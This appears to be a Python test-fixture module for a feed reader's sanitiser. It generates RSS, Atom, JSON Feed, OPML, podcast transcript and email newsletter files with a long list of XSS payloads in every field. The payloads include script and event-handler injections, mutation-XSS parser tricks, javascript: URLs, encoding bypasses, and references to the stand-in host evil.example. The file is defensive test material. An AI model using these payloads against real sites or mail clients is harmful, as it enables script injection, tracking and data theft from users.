"""What a hostile publisher may try, by us: each vector calls `boom()` or asks evil.example where it gets through.

And documents of each format that carry one vector in every place that can hold text or an address.
"""

from __future__ import annotations

import json
from base64 import b64encode, encodebytes
from html import escape
from xml.sax.saxutils import quoteattr

from lxml import etree
from lxml import html as lxml_html

EVIL = "https://evil.example"

VECTORS = (
    # elements that run by themselves
    "<script>boom()</script>",
    "<SCRIPT type=module>boom()</SCRIPT>",
    f"<script src={EVIL}/a.js></script>",
    "<scr<script>ipt>boom()</scr</script>ipt>",
    "<script\n>boom()</script\t>",
    "<script/x>boom()</script>",
    "</script><script>boom()</script>",
    "<script>boom()",
    "<<script>boom()//<</script>",
    "&lt;script&gt;boom()&lt;/script&gt;",
    # handlers
    "<img src=x onerror=boom()>",
    "<img src=x onerror\n=\nboom()>",
    "<img/src=x/onerror=boom()>",
    '<img src="x" title="a"onerror="boom()">',
    '<img src=x alt="`" onerror=boom() title="`">',
    "<img src=x oNeRrOr='boom()'>",
    "<img src=x onerror=&#98;oom()>",
    '<IMG """><img src=x onerror=boom()>">',
    "<image src=x onerror=boom()>",
    "<body onload=boom()>",
    "<body onpageshow=boom()><p>kelp",
    "<video><source onerror=boom()></video>",
    "<video src=x onerror=boom()></video>",
    "<audio src=x onerror=boom() autoplay></audio>",
    "<video poster=x onloadstart=boom()><source src=x></video>",
    "<details open ontoggle=boom()><summary>kelp</summary></details>",
    "<input autofocus onfocus=boom()>",
    "<textarea autofocus onfocus=boom()></textarea>",
    "<select autofocus onfocus=boom()></select>",
    "<button autofocus onfocus=boom()>kelp</button>",
    "<a href=# autofocus tabindex=1 onfocus=boom()>kelp</a>",
    "<marquee onstart=boom()>kelp</marquee>",
    "<object data=x onerror=boom()></object>",
    "<link rel=stylesheet href=x onerror=boom()>",
    "<style onload=boom()></style>",
    "<p onmouseover=boom() onpointerenter=boom() onclick=boom()>kelp</p>",
    "<b contenteditable autofocus onfocus=boom()>kelp</b>",
    "<xss id=x tabindex=1 autofocus onfocus=boom()>kelp</xss>",
    "<p style='animation:pulse 1s' onanimationstart=boom()>kelp</p>",
    # foreign content
    "<svg onload=boom()>",
    "<svg><script>boom()</script></svg>",
    "<svg><script>boom&#40;&#41;</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=boom()></svg>",
    "<svg><a><animate attributeName=href values=javascript:boom() /><text y=20>kelp</text></a></svg>",
    f"<svg><image href={EVIL}/a.svg></image></svg>",
    f"<svg><use href={EVIL}/a.svg#x></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.boom()</script>'></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=boom()></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:boom()>kelp</maction></math>",
    # what reads otherwise the second time
    "<svg></p><style><a id='</style><img src=1 onerror=boom()>'>",
    "<math><mi><style><img title='</style><img src onerror=boom()>'></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=boom()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=boom()></style>",
    "<title><a title='</title><img src=x onerror=boom()>'></title>",
    "<textarea><a title='</textarea><img src=x onerror=boom()>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=boom()>'></xmp>",
    "<iframe><p title='</iframe><img src=x onerror=boom()>'></iframe>",
    "<noembed><p title='</noembed><img src=x onerror=boom()>'></noembed>",
    "<select><template><style><!--</style><a rel='--></style></select><img src=x onerror=boom()>'></template></select>",
    "<template><script>boom()</script></template><template shadowrootmode=open><img src=x onerror=boom()></template>",
    "<!--><img src=x onerror=boom()>-->",
    "<!--!><img src=x onerror=boom()>--!><img src=x onerror=boom()>",
    "<![CDATA[><img src=x onerror=boom()>]]>",
    "<?php ><img src=x onerror=boom()> ?>",
    "<table><td background=x><svg/onload=boom()></table><p title='<img src=x onerror=boom()>'>",
    "<plaintext><img src=x onerror=boom()>",
    "a\">'><img src=x onerror=boom()><p title=\"'",
    "{{ boom() }}<img src=x onerror=boom()>{% raw %}${boom()}",
    "]]><img src=x onerror=boom()><![CDATA[",
    # documents within, and what changes the whole page
    f"<iframe src={EVIL}/></iframe>",
    "<iframe src=javascript:parent.boom()></iframe>",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<embed src=javascript:boom()>",
    f"<object data={EVIL}/a.html></object>",
    f"<base href={EVIL}/><img src=kelp.png>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>fetch(\"{EVIL}\")</script>'>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=prefetch href={EVIL}/p><link rel=dns-prefetch href={EVIL}>",
    f"<style>@import '{EVIL}/a.css'; body {{ background: url({EVIL}/b) }}</style>",
    f"<p style='background:url({EVIL}/c);position:fixed;inset:0'>kelp</p>",
    f"<form action={EVIL}/><input type=submit formaction=javascript:boom()></form>",
    f"<img src={EVIL}/d.png srcset='{EVIL}/e.png 2x'>",
    f"<picture><source srcset={EVIL}/f.png><img src=x></picture>",
    f"<video poster={EVIL}/g.png autoplay src={EVIL}/h.mp4></video>",
    f"<a href={EVIL}/ ping={EVIL}/ping>kelp</a>",
    # addresses that are code
    "<a href=javascript:boom()>kelp</a>",
    "<a href=' &#1;javascript:boom()'>kelp</a>",
    "<a href='java&#9;script:boom()'>kelp</a>",
    "<a href=&#106;avascript&colon;boom()>kelp</a>",
    "<a href=data:text/html,<script>opener.boom()</script>>kelp</a>",
    "<a href=vbscript:boom()>kelp</a>",
    "<area href=javascript:boom()><map><area href=javascript:boom()></map>",
    "<a xlink:href=javascript:boom()>kelp</a>",
    "javascript:boom()//",
    "data:text/html,<script>boom()</script>",
    # characters
    "\u2028<img src=x onerror=boom()>\u2029",
    "<\ufeffscript>boom()</script><img src=x onerror=\u00a0boom()>",
    "+ADw-script+AD4-boom()+ADw-/script+AD4-",
    "\u202e<img src=x onerror=boom()>",
)
SPACES = (
    "xmlns:media='http://search.yahoo.com/mrss/' xmlns:itunes='http://www.itunes.com/dtds/podcast-1.0.dtd'"
    " xmlns:podcast='https://podcastindex.org/namespace/1.0' xmlns:psc='http://podlove.org/simple-chapters'"
    " xmlns:georss='http://www.georss.org/georss' xmlns:dc='http://purl.org/dc/elements/1.1/'"
    " xmlns:content='http://purl.org/rss/1.0/modules/content/' xmlns:cc='http://backend.userland.com/creativeCommonsRssModule'"
)
DATED = "<pubDate>Sun, 22 Nov 2026 {:02}:{:02}:00 GMT</pubDate>"


def rss(vectors: tuple[str, ...], *, title: str = "Kelp", broken: bool = False, links: tuple[str, ...] = ()) -> bytes:
    """Write RSS: each vector in every place of an entry, escaped as publishers do. `broken` is for feedparser."""
    items = "".join(_item(n, vector, links[n] if links else None) for n, vector in enumerate(vectors))
    mischief = "<p>&nosuch; & " if broken else ""
    return (
        f"<?xml version='1.0'?><rss version='2.0' {SPACES}><channel><title>{escape(title)}</title>"
        f"<link>https://kelp.example/</link><description>{escape(title)}</description>"
        f"<managingEditor>{escape(title)}</managingEditor>{items}{mischief}</channel></rss>"
    ).encode()


def _item(number: int, vector: str, link: str | None) -> str:
    text, slot = escape(vector), quoteattr(vector)
    address = quoteattr(f"https://kelp.example/{vector}")
    when = DATED.format(10 - number // 60, 59 - number % 60)
    return (
        f"<item><guid isPermaLink='false'>{number} {text}</guid><title>kelp {text}</title>{when}"
        f"<link>{link or escape('https://kelp.example/' + vector)}</link><comments>{text}</comments>"
        f"<author>{text}</author><dc:creator>{text}</dc:creator><category domain={slot}>{text}</category>"
        f"<description>{text}</description><content:encoded>{text} kelp</content:encoded>"
        f"<enclosure url={address} type={slot} length={slot}/><enclosure url={slot} type='audio/mpeg' length='1'/>"
        f"<media:content url={address} type='image/png'><media:description>{text}</media:description>"
        f"<media:title>{text}</media:title><media:credit>{text}</media:credit></media:content>"
        f"<media:thumbnail url={slot}/><itunes:image href={slot}/><itunes:duration>{text}</itunes:duration>"
        f"<podcast:transcript url={address} type={slot} language={slot}/><podcast:chapters url={slot} type={slot}/>"
        f"<podcast:location geo={slot}>{text}</podcast:location><cc:license>{text}</cc:license>"
        f"<psc:chapters><psc:chapter start='1' title={slot} href={slot}/></psc:chapters>"
        f"<source url={slot}>{text}</source></item>"
    )


def atom(vectors: tuple[str, ...]) -> bytes:
    """Write Atom with the vectors as markup of their own, as xhtml holds it, and as types that lie."""
    entries = "".join(
        f"<entry><id>urn:{n}</id><title type='html'>kelp {escape(vector)}</title>"
        "<updated>2026-11-22T09:00:00Z</updated>"
        f"<link href={quoteattr(vector)}/><link rel='enclosure' title={quoteattr(vector)} href={quoteattr(vector)}/>"
        f"<author><name>{escape(vector)}</name><uri>{escape(vector)}</uri><email>{escape(vector)}</email></author>"
        f"<category term={quoteattr(vector)} scheme={quoteattr(vector)} label={quoteattr(vector)}/>"
        f"<summary type='text'>{escape(vector)}</summary><rights type='html'>{escape(vector)}</rights>"
        f"<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>kelp {_as_xhtml(vector)}</div></content>"
        "</entry>"
        for n, vector in enumerate(vectors)
    )
    return (
        "<feed xmlns='http://www.w3.org/2005/Atom'><id>urn:kelp</id><title type='html'>"
        f"{escape(vectors[0])}</title><subtitle type='html'>{escape(vectors[0])}</subtitle>{entries}</feed>"
    ).encode()


def _as_xhtml(vector: str) -> str:
    try:
        made = lxml_html.fragment_fromstring(vector, create_parent="div")
        written = etree.tostring(made, encoding="unicode", with_tail=False)
        etree.fromstring(written)
    except (etree.LxmlError, ValueError):
        return escape(vector)
    return written


def json_feed(vectors: tuple[str, ...]) -> bytes:
    """Write JSON Feed."""
    items = [
        {
            "id": f"{n} {vector}", "title": f"kelp {vector}", "url": vector, "external_url": vector,
            "content_html": f"{vector} kelp", "content_text": vector, "summary": vector, "image": vector,
            "banner_image": vector, "date_published": "2026-11-22T09:00:00Z", "tags": [vector], "language": vector,
            "authors": [{"name": vector, "url": vector, "avatar": vector}],
            "attachments": [{"url": f"https://kelp.example/{vector}", "mime_type": vector, "title": vector}],
        }
        for n, vector in enumerate(vectors)
    ]  # fmt: skip
    head = {"version": "https://jsonfeed.org/version/1.1", "title": vectors[0], "description": vectors[0]}
    return json.dumps({**head, "home_page_url": vectors[0], "items": items}).encode()


def page(vector: str) -> bytes:
    """Write a page whose whole text is fetched, with the vector in the midst of it."""
    paragraphs = "".join(f"<p>In paragraph {n} the kelp rose with the tide and nobody was late.</p>" for n in range(12))
    return (
        f"<!doctype html><html><head><title>Kelp</title></head><body><article><h1>Kelp</h1>{paragraphs}"
        f"<div>{vector}</div>{paragraphs}</article></body></html>"
    ).encode("utf-8", "replace")


def recordings(vectors: tuple[str, ...], site: str) -> bytes:
    """Write a feed of recordings that name files beside them: `said` has them by their paths."""
    space = "xmlns:podcast='https://podcastindex.org/namespace/1.0'"
    items = "".join(
        f"<item><guid>{n}</guid><title>kelp {n}</title>{DATED.format(9, n)}"
        f"<enclosure url='{site}/{n}.mp3' type='audio/mpeg'/><podcast:chapters url='{site}/{n}.chapters'/>"
        + "".join(f"<podcast:transcript url='{site}/{n}.{form}' language='{form}'/>" for form in FORMS)
        + "</item>"
        for n, _ in enumerate(vectors)
    )
    return f"<rss version='2.0' {space}><channel><title>Kelp, spoken</title>{items}</channel></rss>".encode()


FORMS = ("vtt", "json", "html", "txt")


def said(vectors: tuple[str, ...]) -> dict[str, bytes]:
    """Write transcripts in all forms and files of chapters, the vector in each of their places."""
    files = {}
    for n, vector in enumerate(vectors):
        line = " ".join(vector.split())
        segment = {"speaker": vector, "startTime": vector, "body": f"kelp {vector}"}
        chapter = {"startTime": 1, "title": f"kelp {vector}", "url": vector, "img": vector}
        files[f"/{n}.vtt"] = f"WEBVTT {line}\n\n00:01.000 --> 00:02.000 {line}\n<v {line}>kelp {vector}\n".encode(
            "utf-8", "replace"
        )
        files[f"/{n}.json"] = json.dumps({"segments": [segment, segment | {"startTime": 2}]}).encode()
        files[f"/{n}.html"] = f"<cite>{vector}</cite><time>0:01</time><p>kelp {vector}</p>".encode("utf-8", "replace")
        files[f"/{n}.txt"] = f"kelp\n\n{vector}".encode("utf-8", "replace")
        files[f"/{n}.chapters"] = json.dumps({"chapters": [chapter, chapter | {"startTime": vector}]}).encode()
    return files


CHARSETS = ("utf-8", "utf-16", "utf-7", "iso-2022-jp", "windows-1252", "no-such-charset")


def letter(number: int, vector: str) -> bytes:
    """Write a newsletter with the vector in its headers and body, in another charset each, with all that mails try."""
    charset = CHARSETS[number % len(CHARSETS)]
    body = (
        f"<html><head><base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}'><style>p {{ background: "
        f"url({EVIL}/css) }}</style><script>boom()</script></head><body onload=boom() background={EVIL}/bg>"
        f"<p>kelp {vector}</p><img src={EVIL}/open.gif width=1 height=1><img src='cid:part1' onerror=boom()>"
        f"<form action={EVIL}/vote><input name=a autofocus onfocus=boom()><button>kelp</button></form>"
        f"<a href='{EVIL}/unsubscribe?u=4711' ping={EVIL}/ping>leave</a><img src={EVIL}/wide.png><p>kelp {vector}</p>"
    )
    try:
        encoded = body.encode(charset)
    except (LookupError, UnicodeEncodeError):
        encoded = body.encode()
    word = f"=?utf-8?b?{b64encode(vector.encode('utf-8', 'replace')).decode()}?="
    raw = " ".join(vector.split())
    head = (
        f"From: {word} <kelp{number % 3}@letters.example>\r\nSubject: kelp {word if number % 2 else raw}\r\n"
        f"Message-ID: <{number}@letters.example>\r\nDate: Sun, 22 Nov 2026 09:{number % 60:02}:00 +0000\r\n"
        f"List-Unsubscribe: <javascript:boom()>, <{raw}>, <https://letters.example/leave>\r\n"
        f"List-Archive: <{raw}>\r\nList-Id: {word}\r\nContent-Base: {EVIL}/\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=kelp\r\n\r\n--kelp\r\n"
        f"Content-Type: text/html; charset={charset}; name={raw}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    attached = f"\r\n--kelp\r\nContent-Type: image/svg+xml\r\nContent-ID: <part1>\r\n\r\n{vector}\r\n--kelp--\r\n"
    return head.encode("utf-8", "replace") + encodebytes(encoded) + attached.encode("utf-8", "replace")


def opml(vectors: tuple[str, ...]) -> bytes:
    """Write a source list whose names, folders and addresses are hostile."""
    outlines = "".join(
        f"<outline text={quoteattr(vector)}>"
        f"<outline type='rss' text={quoteattr(vector)} title={quoteattr(vector)} description={quoteattr(vector)}"
        f" xmlUrl='https://kelp{n}.example/feed' htmlUrl={quoteattr(vector)}/></outline>"
        for n, vector in enumerate(vectors)
    )
    return (
        f"<opml version='2.0'><head><title>{escape(vectors[0])}</title></head><body>{outlines}</body></opml>".encode()
    )
